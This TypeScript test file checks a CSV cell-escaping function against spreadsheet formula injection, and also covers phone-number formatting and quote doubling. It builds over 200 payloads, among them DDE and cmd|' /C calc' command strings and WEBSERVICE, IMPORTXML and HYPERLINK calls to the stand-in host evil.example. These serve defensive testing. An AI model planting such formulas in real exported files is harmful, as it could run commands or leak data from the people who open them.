import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv-cell.ts';

const BODIES = [
  '1+1',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example";"clic")',
  'IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"")',
  'A1',
  '@SUM(1)',
];
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00A0=',
  '\uFEFF=',
  '\u200B=',
  '＝',
  '＋',
  '－',
  '＠',
  '  @',
  '==',
  '\u0000=',
  '\v=',
  '\f+',
  '\r\n-',
  '"="=',
  '|',
];
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));

const content = (cell: string): string => cell.slice(1, -1).replaceAll('""', '"');

describe('csvCell', () => {
  it(`disarms ${PAYLOADS.length} payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThan(200);
    for (const payload of PAYLOADS) {
      expect(content(csvCell(payload))).toMatch(/^['"]/);
      expect(csvCell(payload)).toMatch(/^".*"$/s);
    }
  });

  it('keeps telephone numbers readable', () => {
    expect(csvCell('+33639981234')).toBe('"06 39 98 12 34"');
    expect(csvCell('+262692123456')).toBe('"0692 12 34 56"');
    expect(csvCell('+3225551212')).toBe('"\'+32 25 55 12 12"');
  });

  it('writes numbers, booleans and nothing', () => {
    expect(csvLine([12.5, -3, true, null, undefined, Number.NaN])).toBe('"12.5";" -3";"oui";"";"";""\r\n');
  });

  it('doubles quotes so that no text leaves its cell, and never starts like a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = csvCell(text);
        expect(cell.slice(1, -1).replaceAll('""', '')).not.toContain('"');
        expect(content(cell)).not.toMatch(/^\s*[=+\-@]/);
        const kept = content(cell).replace(/^'/, '');
        if (!/^\+\d+$/.test(text)) expect(kept).toBe(text.replaceAll('\u0000', '').replace(/^'/, ''));
      }),
    );
  });
});
